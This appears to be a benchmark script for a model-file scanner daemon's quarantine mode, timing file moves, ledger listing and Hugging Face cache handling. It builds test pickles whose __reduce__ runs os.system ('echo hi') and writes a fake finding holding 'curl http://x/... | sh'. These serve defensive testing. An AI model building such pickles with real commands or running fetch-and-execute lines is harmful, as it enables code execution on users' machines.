"""Bench for quarantine mode (a script, not a test): prints numbers.

  python bench/bench_quarantine.py [--moves 200] [--records 10000] [--daemon-files 30]

1. the move itself (`mover.quarantine`, same filesystem): time to out of reach (the rename)
   and to the fsync'd ``quarantine.done`` record, p50/p99 over --moves small files;
2. across filesystems (a real tmpfs as root, else a simulated EXDEV): a journaled copy of 1,
   10 and 100 MB;
3. ``modelscand quarantine list`` (whole process, as an operator runs it) over a ledger of
   --records quarantined files (begin + done records each, findings and HF names like the
   daemon writes), table and --json;
4. the running daemon in quarantine mode on a Hugging Face cache layout (a new repo per file,
   its directories made 100 ms before the download ends, as huggingface_hub does): from the
   rename of ``blobs/<etag>.<8hex>.incomplete`` to ``blobs/<etag>`` until the malicious bytes
   are no longer at that name (an observer polls the name's inode every millisecond), p50/p99.
"""

from __future__ import annotations

import argparse
import errno
import hashlib
import json
import os
import pickle
import resource
import shutil
import signal
import statistics
import subprocess
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, HERE)

from modelscand.quarantine import mover  # noqa: E402
from modelscand.quarantine.ledger import Ledger  # noqa: E402
from modelscand.quarantine.store import Store  # noqa: E402


class Evil:
    """Never loaded: only pickled. Loading it would run `echo hi`."""

    def __reduce__(self):
        return (os.system, ("echo hi",))


def evil(pad: int = 0, salt: bytes = b"") -> bytes:
    return pickle.dumps((Evil(), salt, b"\x00" * pad))


def pct(values: list[float], q: float) -> float:
    values = sorted(values)
    return values[min(len(values) - 1, int(round(q * (len(values) - 1))))]


def summary(values: list[float]) -> str:
    return f"n={len(values)} p50={statistics.median(values):.2f} ms p99={pct(values, 0.99):.2f} ms max={max(values):.2f} ms"


# 1 ---------------------------------------------------------------------------------------------
def bench_moves(tmp: str, n: int) -> dict:
    root = os.path.join(tmp, "moves", "root")
    os.makedirs(root)
    os.makedirs(os.path.join(tmp, "moves", "state"), mode=0o700)
    store = Store(os.path.join(tmp, "moves", "state"))
    paths = []
    for i in range(n):
        p = os.path.join(root, f"d{i % 10}", f"evil{i:04d}.pkl")
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "wb") as fh:
            fh.write(evil(salt=str(i).encode()))
        paths.append(p)
    marks: dict[str, float] = {}
    mover.STEP_HOOK = lambda step: marks.__setitem__(step, time.perf_counter())
    reach, done = [], []
    try:
        for p in paths:
            st = os.stat(p)
            ident = (st.st_dev, st.st_ino, st.st_size, st.st_mtime_ns, st.st_ctime_ns)
            sha = hashlib.sha256(open(p, "rb").read()).hexdigest()  # the scan already has it in the daemon
            t0 = time.perf_counter()
            mover.quarantine(store, mover.Subject(root, p, ident, sha), {"verdict": "issues"})
            t1 = time.perf_counter()
            reach.append((marks["renamed"] - t0) * 1000)
            done.append((t1 - t0) * 1000)
    finally:
        mover.STEP_HOOK = None
    return {"move: out of reach (rename)": summary(reach), "move: done record fsync'd": summary(done)}


# 2 ---------------------------------------------------------------------------------------------
def bench_copies(tmp: str) -> dict:
    base = os.path.join(tmp, "copy")
    os.makedirs(os.path.join(base, "state"), mode=0o700)
    mnt = os.path.join(base, "tmpfs")
    os.makedirs(mnt)
    real = os.geteuid() == 0 and subprocess.run(["mount", "-t", "tmpfs", "-o", "size=400m", "tmpfs", mnt],
                                                 capture_output=True).returncode == 0
    store = Store(os.path.join(base, "state"), per_filesystem=False)
    saved = mover.rename_noreplace
    if not real:
        def exdev(*_a):
            raise OSError(errno.EXDEV, os.strerror(errno.EXDEV))
        mover.rename_noreplace = exdev
    out = {}
    try:
        for mb in (1, 10, 100):
            p = os.path.join(mnt, f"evil{mb}.bin")
            with open(p, "wb") as fh:
                fh.write(evil(pad=mb << 20))
            t0 = time.perf_counter()
            begin, _done = mover.quarantine(store, mover.Subject(mnt, p), {"verdict": "issues"})
            ms = (time.perf_counter() - t0) * 1000
            out[f"copy across filesystems {mb:>3} MB"] = (f"{ms:.0f} ms ({begin['method']}: hash, copy, fsync, re-read "
                                                          f"sha256, unlink; {'tmpfs -> disk' if real else 'simulated EXDEV'})")
    finally:
        mover.rename_noreplace = saved
        if real:
            subprocess.run(["umount", "-l", mnt], capture_output=True)
    return out


# 3 ---------------------------------------------------------------------------------------------
def fill_ledger(state: str, n: int) -> None:
    """n quarantined files as the daemon records them (fsync off: only the generation is sped up)."""
    led = Ledger(os.path.join(state, "ledger"))
    real_fsync = os.fsync
    os.fsync = lambda fd: None
    try:
        with led.locked():
            for i in range(n):
                etag = hashlib.sha256(str(i).encode()).hexdigest()
                qid = f"Q20261101-{i:08x}"
                hf = {"repo_type": "model", "repo_id": f"org{i % 50}/model-{i % 300}", "etag": etag,
                      "repo_dir": f"/home/u{i % 7}/.cache/huggingface/hub/models--org{i % 50}--model-{i % 300}",
                      "files": [{"revision": "0123456789abcdef0123456789abcdef01234567", "file": "pytorch_model.bin",
                                 "link": f"../../blobs/{etag}"}], "refs": {"main": "0123456789abcdef0123456789abcdef01234567"}}
                findings = [{"rule_id": "pickle/dangerous-call", "severity": "critical", "description": "a call of "
                             "posix.system, which runs a shell command", "module": "posix", "operator": "system",
                             "offset": 40, "call": f"posix.system('curl http://x/{i} | sh')", "source": None},
                            {"rule_id": "pickle/unknown-reference", "severity": "low", "description": "unknown name",
                             "module": "collections", "operator": "OrderedDict", "offset": 2, "call": None, "source": None}]
                path = f"{hf['repo_dir']}/blobs/{etag}"
                led.append("quarantine.begin", id=qid, method="rename", root=f"/home/u{i % 7}/.cache/huggingface/hub",
                           path=path, path_b64="", dir="/var/lib/modelscand/quarantine", name=qid,
                           identity={"dev": 2049, "ino": 1000 + i, "size": 4096 + i, "mtime_ns": 1, "ctime_ns": 2},
                           nlink=1, mode=0o644, owner={"uid": 1000 + i % 7, "user": f"u{i % 7}"},
                           group={"gid": 1000, "group": "users"}, atime_ns=1, sha256=etag, hf=hf,
                           tombstone_kind="pickle", reason="finding", verdict="issues", severity="critical",
                           format="pickle", rule_ids=["pickle/dangerous-call", "pickle/unknown-reference"],
                           findings=findings, errors=[], scan_error=None,
                           scanner={"version": "0.1.0", "fingerprint": "0.1.0:0123456789abcdef"},
                           repeat_of=None, threshold="medium", via=None)
                led.append("quarantine.done", id=qid, after={"dev": 2049, "ino": 1000 + i, "size": 4096 + i,
                                                              "mtime_ns": 1, "ctime_ns": 3},
                           sha256=etag, changed_during_move=False, tombstone={"kind": "pickle", "placed": True},
                           other_links=0, note=None, recovered=False)
    finally:
        os.fsync = real_fsync


def bench_list(tmp: str, n: int) -> dict:
    state = os.path.join(tmp, "list", "state")
    os.makedirs(state, mode=0o700)
    t0 = time.perf_counter()
    fill_ledger(state, n)
    gen = time.perf_counter() - t0
    led = Ledger(os.path.join(state, "ledger"))
    size = sum(os.path.getsize(os.path.join(led.dir, s)) for s in led.segments())
    out = {"ledger": f"{n} entries, {2 * n} records, {size / 2**20:.1f} MB (generated in {gen:.1f}s)"}
    for label, extra in (("list (table)", []), ("list --json", ["--json"]),
                         ("list --repo org3/model-3", ["--repo", "org3/model-3"]),
                         ("show ID", None)):
        args = ["show", f"Q20261101-{n // 2:08x}"] if extra is None else ["list", *extra]
        times, cpu = [], []
        for _ in range(5):
            before = resource.getrusage(resource.RUSAGE_CHILDREN)
            t0 = time.perf_counter()
            r = subprocess.run([sys.executable, "-m", "modelscand.cli", "quarantine", *args, "--state-dir", state],
                               capture_output=True, cwd=HERE)
            times.append(time.perf_counter() - t0)
            after = resource.getrusage(resource.RUSAGE_CHILDREN)
            cpu.append(after.ru_utime - before.ru_utime + after.ru_stime - before.ru_stime)
            assert r.returncode == 0, r.stderr[-500:]
        lines = r.stdout.count(b"\n")
        out[label] = (f"wall best {min(times) * 1000:.0f} ms, median {statistics.median(times) * 1000:.0f} ms; "
                      f"CPU median {statistics.median(cpu) * 1000:.0f} ms ({lines} lines; load {os.getloadavg()[0]:.1f})")
    return out


# 4 ---------------------------------------------------------------------------------------------
def bench_daemon(tmp: str, n: int, interval: float) -> dict:
    hub = os.path.join(tmp, "daemon", "hub")
    state = os.path.join(tmp, "daemon", "state")
    os.makedirs(hub)
    proc = subprocess.Popen([sys.executable, "-m", "modelscand.cli", "run", "--mode", "quarantine", "--root", hub,
                             "--state-dir", state], stdout=subprocess.PIPE, text=True, cwd=HERE,
                            env=dict(os.environ, PYTHONUNBUFFERED="1"))
    events: list[dict] = []
    ready = threading.Event()

    def read() -> None:
        for line in proc.stdout:
            try:
                ev = json.loads(line)
            except ValueError:
                continue
            events.append(ev)
            if ev.get("event") == "daemon.ready":
                ready.set()

    threading.Thread(target=read, daemon=True).start()
    try:
        assert ready.wait(120), "daemon never became ready"
        reach, logged = [], []
        for i in range(n):
            data = evil(salt=os.urandom(8))
            etag = hashlib.sha256(data).hexdigest()
            repo = os.path.join(hub, f"models--org--m{i}")
            blobs = os.path.join(repo, "blobs")
            snap = os.path.join(repo, "snapshots", "c" * 40)
            os.makedirs(blobs)
            os.makedirs(snap)
            tmpname = os.path.join(blobs, f"{etag}.{os.urandom(4).hex()}.incomplete")
            with open(tmpname, "wb") as fh:
                fh.write(data)
            time.sleep(0.1)  # the download itself: the repo dirs exist (and are watched) before its rename
            final = os.path.join(blobs, etag)
            os.rename(tmpname, final)
            t0 = time.time()
            ino = os.lstat(final).st_ino
            os.symlink(f"../../blobs/{etag}", os.path.join(snap, "pytorch_model.bin"))
            deadline = t0 + 10
            while time.time() < deadline:
                try:
                    if os.lstat(final).st_ino != ino:
                        break
                except FileNotFoundError:
                    break
                time.sleep(0.001)
            reach.append((time.time() - t0) * 1000)
            t_end = time.time() + 5
            while time.time() < t_end and not any(e.get("event") == "quarantine.moved" and e.get("path") == final
                                                  for e in events):
                time.sleep(0.005)
            moved = [e for e in events if e.get("event") == "quarantine.moved" and e.get("path") == final]
            if moved:
                import datetime as dt

                ts = dt.datetime.fromisoformat(moved[0]["ts"].replace("Z", "+00:00")).timestamp()
                logged.append((ts - t0) * 1000)
            time.sleep(interval)
        missed = n - len(logged)
        return {"daemon: rename -> out of reach": summary(reach) + " (observer polls the name's inode)",
                "daemon: rename -> quarantine.moved": summary(logged) + f" (log timestamp; {missed} missed)"}
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(60)


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--moves", type=int, default=200)
    ap.add_argument("--records", type=int, default=10000)
    ap.add_argument("--daemon-files", type=int, default=30)
    ap.add_argument("--interval", type=float, default=0.5, help="seconds between daemon files")
    ap.add_argument("--only", choices=("moves", "copies", "list", "daemon"))
    args = ap.parse_args()
    tmp = tempfile.mkdtemp(prefix="modelscand-qbench-")
    results: dict[str, str] = {}
    try:
        if args.only in (None, "moves"):
            results.update(bench_moves(tmp, args.moves))
        if args.only in (None, "copies"):
            results.update(bench_copies(tmp))
        if args.only in (None, "list"):
            results.update(bench_list(tmp, args.records))
        if args.only in (None, "daemon"):
            results.update(bench_daemon(tmp, args.daemon_files, args.interval))
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    width = max(len(k) for k in results)
    for k, v in results.items():
        print(f"{k:>{width}}: {v}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
